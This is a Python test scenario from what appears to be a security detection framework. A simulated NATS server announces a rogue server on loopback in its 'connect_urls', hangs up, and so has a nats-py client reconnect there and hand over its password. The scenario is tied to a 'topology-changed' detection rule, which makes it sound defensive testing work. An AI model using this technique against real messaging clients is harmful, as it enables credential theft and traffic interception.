"""C6: a NATS server announces another one. The client logs in there after a disconnect."""

import asyncio
from typing import Any

from backwatch.attack.authority import Authority
from backwatch.attack.protocols.nats import NATS
from backwatch.attack.protocols.server import LOOPBACK, ServerSession
from backwatch.attack.scenarios import SECRET
from backwatch.attack.techniques.nats import ReceivesOrders


class _Announcing(NATS):
    def __init__(self, authority: Authority) -> None:
        super().__init__(authority)
        self._elsewhere = self.attach(NATS(authority))
        self._served = False

    def serve(self, session: ServerSession) -> None:
        """Serve one session once hostile; refuse the next."""
        if self.hostile and self._served:
            return
        self._served = self.hostile
        super().serve(session)

    def information(self) -> dict[str, Any]:
        nodes = [f"localhost:{self.port}"] + ([f"{LOOPBACK}:{self._elsewhere.port}"] if self.hostile else [])
        return super().information() | {"connect_urls": nodes}

    def message(self, body: bytes) -> bytes:
        if self.hostile:
            raise EOFError
        return super().message(body)


class NatsConnectUrls(ReceivesOrders):
    """nats-py adds every announced server to its pool."""

    code = "C6"
    attack = "announces a server that is not the cluster's, hangs up, and so has the client log in there"
    reference = "https://docs.nats.io/reference/reference-protocols/nats-protocol#info; ATT&CK T1557"
    rule = "topology-changed"
    server = _Announcing
    captures = SECRET.encode()

    def work(self) -> object:
        """Publish orders."""
        return asyncio.run(self._publish(reconnects=False))

    def meet(self) -> object:
        """Publish orders, and wait while the client connects again after the server has disconnected."""
        return asyncio.run(self._publish(reconnects=True))

    async def _publish(self, *, reconnects: bool) -> None:
        client = await self.connect(
            user="shop", password=SECRET, allow_reconnect=True, reconnect_time_wait=0.1, max_reconnect_attempts=5
        )
        await client.publish("orders", b"two apples")
        await client.flush(2) if not reconnects else await asyncio.sleep(2)
        await client.close()
